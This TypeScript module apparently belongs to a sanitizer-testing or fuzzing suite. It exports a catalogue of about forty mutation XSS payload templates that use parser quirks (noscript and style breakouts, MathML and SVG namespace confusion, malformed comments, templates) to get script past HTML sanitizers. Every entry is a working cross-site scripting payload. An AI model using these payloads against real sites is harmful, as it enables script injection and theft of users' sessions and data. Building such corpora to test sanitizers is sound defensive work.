// Mutation XSS: payloads that parsers read differently or that change when they are serialized and parsed again.
import type { PayloadFamily } from './payload-family';

const image = (run: string) => `<img src=x onerror=${run}>`;

export const MUTATION_PAYLOADS: PayloadFamily = {
  'an end of a noscript in an attribute': (run) => `<noscript><p title="</noscript>${image(run)}">`,
  'an end of a style in an attribute': (run) => `<style><p title="</style>${image(run)}">`,
  'an end of a title in an attribute': (run) => `<title><p title="</title>${image(run)}">`,
  'an end of a text area in an attribute': (run) => `<textarea><p title="</textarea>${image(run)}">`,
  'an xmp end tag in an attribute': (run) => `<xmp><p title="</xmp>${image(run)}">`,
  'an end of a frame in an attribute': (run) => `<iframe><p title="</iframe>${image(run)}">`,
  'a noembed end tag in an attribute': (run) =>
    `<noembed><p title="</noembed>${image(run)}"></noembed><noframes><p title="</noframes>${image(run)}">`,
  'a plaintext element': (run) => `<plaintext><p>a</p>${image(run)}</plaintext>${image(run)}`,
  'a listing element': (run) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  'an xmp element': (run) => `<xmp>&lt;/xmp&gt;${image(run)}</xmp>`,
  'a text area with markup': (run) => `<textarea>&lt;/textarea&gt;${image(run)}</textarea>`,
  'an option with entities': (run) => `<option>&lt;img src=x onerror=${run}&gt;</option>`,
  'a title with entities': (run) => `<title>&lt;/title&gt;&lt;img src=x onerror=${run}&gt;</title>`,
  'an encoded script': (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  'double-encoded entities': (run) => `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  'an attribute with entities': (run) => `<p title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">a</p>`,
  'a style in a table in MathML': (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'a style in a form in MathML': (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  'a comment in a style in MathML': (run) =>
    `<math><mtext><mglyph><style><!--</style><img title="--></mglyph>${image(run)}">`,
  'a style in an SVG in a select': (run) => `<select><template><svg><style></select>${image(run)}`,
  'a style in an SVG in a caption': (run) => `<table><caption><svg><style></caption></table>${image(run)}`,
  'a template': (run) => `<template>${image(run)}</template>`,
  'a declarative shadow root': (run) => `<div><template shadowrootmode="open">${image(run)}</template></div>`,
  'a form in a form': (run) => `<form id=a><div></form><form id=b><input name=parentNode onfocus=${run} autofocus>`,
  'a paragraph moved out of a table': (run) => `<table><p onclick=${run}>a<tr><p title="</table>${image(run)}">b`,
  'a link in a link': (run) => `<a href="#a"><table><a href="javascript:${run}">a</a></table></a>`,
  'bold across paragraphs': (run) => `<b onclick=${run}><p>a</b>b</p></b><b><i></b>${image(run)}</i>`,
  'misnested lists': (run) => `<li><ul><li></ul></li></ul></ol>${image(run)}<td><tr></table>`,
  'an empty comment': (run) => `<!-->${image(run)}-->`,
  'a comment closed by three dashes': (run) => `<!--->${image(run)}-->`,
  'a comment closed by a bang': (run) => `<!-- --!>${image(run)}-->`,
  'a comment in a comment': (run) => `<!--<!-- -->${image(run)}-->`,
  'a bogus comment': (run) => `<!a>${image(run)}<!-x-><//y>${image(run)}`,
  'a comment across attributes': (run) => `<p title="<!--">a</p><p title="--><img src=x onerror=${run}>">b</p>`,
  'a conditional comment': (run) =>
    `<!--[if gte IE 4]><script>${run}</script><![endif]--><![if true]>${image(run)}<![endif]>`,
  'a CDATA section': (run) => `<![CDATA[<script>]]>${image(run)}<![CDATA[</script>]]>`,
  'a processing instruction': (run) => `<?xml version="1.0" a="?>${image(run)}"?><?php echo "${image(run)}" ?>`,
  'a doctype': (run) => `<!DOCTYPE html "${image(run)}"><!doctype x [${image(run)}]>`,
  'backticks in an attribute': (run) => `<img alt="\`\`onerror=${run} src=x">`,
  'an attribute that ends a comment': (run) => `<!-- <p title="-->${image(run)}"> -->`,
  'a self-closing script': (run) => `<script/><img title="</script>${image(run)}">`,
  'a self-closing style': (run) => `<style/><p title="</style>${image(run)}">a`,
  'a self-closing text area': (run) => `<textarea/><p title="</textarea>${image(run)}">a`,
  'a self-closing title in an SVG': (run) => `<svg><title/><p title="</title>${image(run)}"></svg>`,
};
